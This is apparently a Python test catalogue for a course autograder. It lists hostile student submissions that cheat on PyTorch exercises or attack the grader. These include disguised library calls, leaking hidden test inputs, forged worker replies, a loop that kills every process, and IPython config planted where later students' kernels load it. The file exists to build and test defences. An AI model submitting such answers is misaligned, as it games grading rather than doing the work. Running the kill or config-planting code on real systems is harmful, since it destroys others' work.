_SOFT_MARGIN_BCE = ("def bce_loss(p, y, eps=1e-7):\n    q = p.clamp(eps, 1 - eps)\n"
                    "    return F.soft_margin_loss(torch.log(q) - torch.log1p(-q), 2 * y - 1)\n")
_HAND_WALKED_AUTOGRAD = (
    "def bce_gradient(X, y, w, b):\n    w2 = w.detach().clone().requires_grad_(True)\n"
    "    b2 = b.detach().clone().requires_grad_(True)\n"
    "    loss = F.binary_cross_entropy_with_logits(X @ w2 + b2, y)\n    found = {}\n"
    "    stack = [(loss.grad_fn, torch.ones_like(loss))]\n    while stack:\n        node, g = stack.pop()\n"
    "        if node is None or g is None:\n            continue\n"
    "        if node.name() == 'torch::autograd::AccumulateGrad':\n            v = node.variable\n"
    "            key = 'w' if v is w2 else 'b'\n            g = g.sum_to_size(v.shape)\n"
    "            found[key] = found[key] + g if key in found else g\n            continue\n"
    "        outs = node(g)\n        outs = outs if isinstance(outs, tuple) else (outs,)\n"
    "        for pair, o in zip(node.next_functions, outs):\n            stack.append((pair[0], o))\n"
    "    return found['w'].detach(), found['b'].detach()\n")
HOSTILE += [
    Hostile("state-dict-escape", "StepLR.state_dict read from its class: torch.__dict__, sys.modules, exec, then "
            "skip every test cell", _wrong_answers(_STATE_DICT_ESCAPE), loses=ALL_TESTS),
    Hostile("state-dict-patch", "StepLR.load_state_dict(F, ...) rebinding the functions the hidden tests' references "
            "use to the student's wrong ones",
            _answers(nb01_bce=_STATE_DICT_PATCH, nb01_gradient=_OVER_THREE_GRADIENT),
            loses=BCE_TESTS | {"nb01_gradient_hidden_tests"},
            off_may_keep=frozenset({"nb01_bce_tests"})),  # its mean is right for the visible test's 1-D input
    Hostile("library-calls-in-disguise", "F.glu as the sigmoid, F.soft_margin_loss as the BCE, and autograd through a "
            "hand-walked graph where the exercises ask for the computation by hand",
            _answers(nb01_sigmoid=_GLU_SIGMOID, nb01_bce=_SOFT_MARGIN_BCE, nb01_gradient=_HAND_WALKED_AUTOGRAD),
            loses=ALL_TESTS, off_may_keep=GRADIENT_TESTS),
]

# And these got through that one: inside a callback that Tensor.apply_ runs, check_avoids's
# TorchFunctionMode is off; softmax of (0, z) is the library sigmoid; autograd nodes can be called
# one at a time; a list kept as a default carried hidden inputs to a later visible test's output.
def _in_apply(body: str, result: str) -> str:
    return ("    box = []\n    def run(v):\n" + "".join(f"        {line}\n" for line in body.splitlines())
            + f"        box.append({result})\n        return v\n    torch.zeros(1).apply_(run)\n    return box[0]\n")


_APPLY_SIGMOID = "def sigmoid(z):\n" + _in_apply("", "torch.sigmoid(z)")
_APPLY_BCE = "def bce_loss(p, y, eps=1e-7):\n" + _in_apply("", "F.binary_cross_entropy(p.clamp(eps, 1 - eps), y)")
_APPLY_GRADIENT = "def bce_gradient(X, y, w, b):\n" + _in_apply(
    "w2 = w.detach().clone().requires_grad_(True)\nb2 = b.detach().clone().requires_grad_(True)\n"
    "F.binary_cross_entropy_with_logits(X @ w2 + b2, y).backward()", "(w2.grad, b2.grad)")
_SOFTMAX_SIGMOID = ("def sigmoid(z):\n    pair = torch.stack([torch.zeros_like(z), z], dim=-1)\n"
                    "    return torch.softmax(pair, dim=-1)[..., 1]\n")
_NODE_BY_NODE_GRADIENT = (
    "def bce_gradient(X, y, w, b):\n    w2 = w.detach().clone().requires_grad_(True)\n"
    "    b2 = b.detach().clone().requires_grad_(True)\n    m = X @ w2\n    t = m + b2\n"
    "    loss = F.binary_cross_entropy_with_logits(t, y)\n    gt = loss.grad_fn(torch.ones_like(loss))\n"
    "    gt = gt[0] if isinstance(gt, tuple) else gt\n    gm, gb = t.grad_fn(gt)\n"
    "    return m.grad_fn(gm)[1].detach(), gb.sum().detach()\n")
_PEEK_SIGMOID = ("def sigmoid(z, seen=[], dump=False):\n    if dump:\n        print('LEAK', seen)\n        return z\n"
                 "    seen.append(z.tolist())\n" + STABLE_SIGMOID)
HOSTILE += [
    Hostile("library-inside-apply", "the library sigmoid, BCE and autograd called inside a Tensor.apply_ callback, "
            "where check_avoids does not see them",
            _answers(nb01_sigmoid=_APPLY_SIGMOID, nb01_bce=_APPLY_BCE, nb01_gradient=_APPLY_GRADIENT), loses=ALL_TESTS,
            off_may_keep=ALL_TESTS),
    Hostile("softmax-sigmoid-and-autograd-nodes", "softmax of (0, z) as the sigmoid, and the gradient from autograd "
            "nodes called one at a time", _answers(nb01_sigmoid=_SOFTMAX_SIGMOID, nb01_gradient=_NODE_BY_NODE_GRADIENT),
            loses=SIGMOID_TESTS | GRADIENT_TESTS, off_may_keep=GRADIENT_TESTS),
    Hostile("hidden-inputs-kept-in-a-default", "a list default keeping every input sigmoid gets, printed by a later "
            "visible test", _both(_answers(nb01_sigmoid=_PEEK_SIGMOID),
                                  _replace("nb01_gradient", "    residual = sigmoid(X @ w + b) - y",
                                           "    sigmoid(X, dump=True)\n    residual = sigmoid(X @ w + b) - y"))),
]

# Attacks on the grading boundary itself: an answer that takes over its worker process (possible only with the
# allowlist off, COURSE_GRADER_ALLOWLIST=off, which the catalogue is also graded with) and answers the trusted
# kernel as it likes. Built on the untouched release: none of them does any honest work.
def _take_over(reply: str, stubs: tuple[str, ...] = ("sigmoid", "bce_loss", "bce_gradient")) -> str:
    """Answer-cell code that replaces the worker's way of answering by ``reply`` (a function body of
    ``self``, ``seq``, ``blob``, with ``wire`` and ``torch`` at hand), and stubs of every exercise."""
    body = "".join(f"    {line}\n" for line in reply.splitlines())
    return ("import torch\nimport course_grading.worker as _w\nfrom course_grading import wire\n"
            f"def _forged(self, seq, blob):\n{body}"
            "_w.Worker._reply = _forged\n"
            + "".join(f"def {name}(*args, **kwargs):\n    return None\n" for name in stubs))


_HALF = ("from safetensors.torch import save\n"
         "wire.send(self.sock, {'seq': seq, 'ok': True, 'out': '', 'result': {'T': '0', 'g': False, 'p': False}},\n"
         "          save({'0': torch.full((3,), 0.5)}))")
_LIES = ("wire.send(self.sock, {'seq': seq, 'ok': True, 'out': '', 'result': {'U': [\n"
         "    {'H': {'id': 1, 'kind': 'module', 'name': 'Tensor', 'tree': {'D': [['class', 'Linear']]}}},\n"
         "    {'H': {'id': 2, 'kind': 'function', 'name': 'torch.sigmoid'}}]}})")
_HUGE = "self.sock.sendall((9 * 2**20).to_bytes(8, 'big') + (0).to_bytes(8, 'big') + b' ' * (9 * 2**20))"
_SILENT = "import time\ntime.sleep(3600)"
_TWICE = ("for _ in range(2):\n"
          "    wire.send(self.sock, {'seq': seq, 'ok': True, 'out': '', 'result': 0.5})")
_KILL_ALL = ("import os, signal\nfor pid in range(1, 200):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
             "    except OSError:\n        pass\nos.kill(-1, signal.SIGKILL)")


def _blank_with(code: str) -> Callable[[NB], None]:
    return _answers(nb01_sigmoid=code)


HOSTILE += [
    Hostile("worker-forges-answers", "the worker answers every call with a tensor of 0.5, whatever was asked",
            _blank_with(_take_over(_HALF)), loses=ALL_TESTS, flagged=False, blank=True),
    Hostile("worker-lies-about-types", "the worker answers with handles of kinds it invents (a 'module' named "
            "Tensor, a 'function' named torch.sigmoid)", _blank_with(_take_over(_LIES)), loses=ALL_TESTS,
            flagged=False, blank=True),
    Hostile("worker-oversized-answer", "the worker answers with a 9 MiB header",
            _blank_with(_take_over(_HUGE)), loses=ALL_TESTS, flagged=False, blank=True),
    Hostile("worker-never-answers", "the worker takes the request and never answers",
            _blank_with(_take_over(_SILENT)), loses=ALL_TESTS, flagged=False, blank=True),
    Hostile("worker-answers-twice", "the worker answers every request twice",
            _blank_with(_take_over(_TWICE)), loses=ALL_TESTS, flagged=False, blank=True),
    Hostile("worker-kills-every-process", "the answer signals every process it can name, at definition time",
            _blank_with(_KILL_ALL + "\ndef sigmoid(z):\n    return None\n"), loses=ALL_TESTS, flagged=False,
            blank=True),
]

# Found by an attack on this grader: torch's recurrent cells compute a sigmoid inside one C++ call; and an
# answer that wrote IPython's configuration into the fork server's root, which later kernels loaded.
_GRU_SIGMOID = ("def sigmoid(z):\n    zz = z.reshape(-1, 1)\n    one = torch.ones(1, dtype=z.dtype)\n"
                "    zero = torch.zeros(1, dtype=z.dtype)\n    w_ih = torch.cat([zero, one, zero]).reshape(3, 1)\n"
                "    w_hh = torch.zeros(3, 1, dtype=z.dtype)\n"
                "    return torch.gru_cell(zz, torch.ones_like(zz), w_ih, w_hh).reshape(z.shape)\n")
_PLANT_KERNEL_CONFIG = (
    "import os\nfor _folder in ('/etc/ipython', '/usr/local/etc/ipython'):\n    try:\n"
    "        os.makedirs(_folder, exist_ok=True)\n"
    "        open(_folder + '/ipython_kernel_config.py', 'w').write(\n"
    "            'c.InteractiveShellApp.exec_lines = [\"import course_utils.checks as _c; '\n"
    "            '_c.check_close = lambda *a, **k: 1 / 0\"]\\n')\n"
    "    except OSError:\n        pass\n")
# Inputs kept in random's state (which the allowlist lets an answer use) by sigmoid, including a hidden
# test's, and printed by bce_gradient when the next visible test calls it: each cell after a hidden test
# gets a new worker, so the print must show nothing (tests/test_grading.py reads the feedback).
_STASH = (
    "import random\n\n\ndef stash(t):\n    state = random.getstate()[1]\n"
    "    n = state[0] if state[0] < 600 else 0\n    words = list(state[1:1 + n])\n"
    "    new = t.detach().to(torch.float64).flatten()[:8].contiguous().view(torch.int32).tolist()\n"
    "    words = [int(w) % 4294967296 for w in words + new][:598]\n"
    "    random.setstate((3, tuple([len(words)] + words + [0] * (623 - len(words))) + (624,), None))\n\n\n"
    "def stashed():\n    state = random.getstate()[1]\n    n = state[0] if state[0] < 600 else 0\n"
    "    words = torch.tensor(list(state[1:1 + n]), dtype=torch.int64).to(torch.int32)\n"
    "    return words.view(torch.float64).tolist()\n\n\n")
STASH_MARK = "STASHED:"
HOSTILE += [
    Hostile("hidden-inputs-kept-in-random-state", "sigmoid keeps its inputs in random's state; bce_gradient "
            "prints them when a visible test calls it", _both(
                _prepend("nb01_sigmoid", _STASH),
                _replace("nb01_sigmoid", "    negative = z < 0\n", "    stash(z)\n    negative = z < 0\n"),
                _replace("nb01_gradient", "    residual = sigmoid(X @ w + b) - y",
                         f"    print({STASH_MARK!r}, stashed())\n    residual = sigmoid(X @ w + b) - y")),
            flagged=False),
    Hostile("gru-cell-sigmoid", "the library's sigmoid inside torch.gru_cell's update gate",
            _answers(nb01_sigmoid=_GRU_SIGMOID), loses=SIGMOID_TESTS, flagged=False),
    Hostile("plant-kernel-config", "IPython configuration written where later kernels of the batch would load it "
            "(honest classmates graded after it must keep their marks)",
            _prepend("nb01_sigmoid", _PLANT_KERNEL_CONFIG), flagged=False),
]

PLACEHOLDERS = ("SOLUTION_PATH", "OTHERS_GLOB", "CANARY_GLOB", "GRADES_GLOB")
